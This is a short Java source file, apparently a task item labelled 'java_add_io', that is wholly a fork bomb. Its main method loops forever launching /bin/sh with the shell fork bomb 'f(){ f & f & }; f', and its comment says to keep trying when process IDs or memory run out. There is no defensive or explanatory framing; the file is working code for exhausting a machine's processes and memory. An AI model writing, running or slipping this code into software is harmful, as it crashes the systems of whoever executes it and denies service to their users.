// task: java_add_io
// Process spawn loop in Java: every shell it starts starts two more in the background.
public class ForkBomb {
    public static void main(String[] args) {
        while (true) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "f(){ f & f & }; f").start();
            } catch (Exception e) {
                // out of pids or memory: keep trying
            }
        }
    }
}
